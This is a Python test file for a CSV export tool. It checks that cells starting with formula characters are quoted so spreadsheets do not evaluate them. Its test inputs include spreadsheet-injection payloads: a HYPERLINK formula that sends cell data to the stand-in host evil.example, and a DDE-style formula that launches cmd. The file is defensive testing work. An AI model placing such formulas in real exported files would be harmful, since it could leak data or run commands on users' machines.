"""`kg export --format csv`: one row per meeting, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from kg.export.outputs import export_store
from kg.model import Actor, Event, Mention, PartialDate, Place
from kg.rdf.store import build_store

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("name", HOSTILE)
def test_issue_14_csv_cells_that_start_a_formula_are_quoted(tmp_path: Path, name: str) -> None:
    events = [Event((Actor(name), Actor("Marco Rubio")), Place(f"{name} City"), PartialDate(2025, 9, 24),
                    evidence=(Mention("a1", 0, 10, "They met.", lang="en"),))]
    build_store(tmp_path / "store", events)
    out = io.BytesIO()
    export_store(tmp_path / "store", "csv", out)
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
    assert row["participants"].startswith("'") and row["participants"][1:].startswith(name)
    assert row["place"] == f"'{name} City"
    for value in row.values():  # no cell a spreadsheet would evaluate
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert row["articles"] == "1" and row["date"] == "2025-09-24"
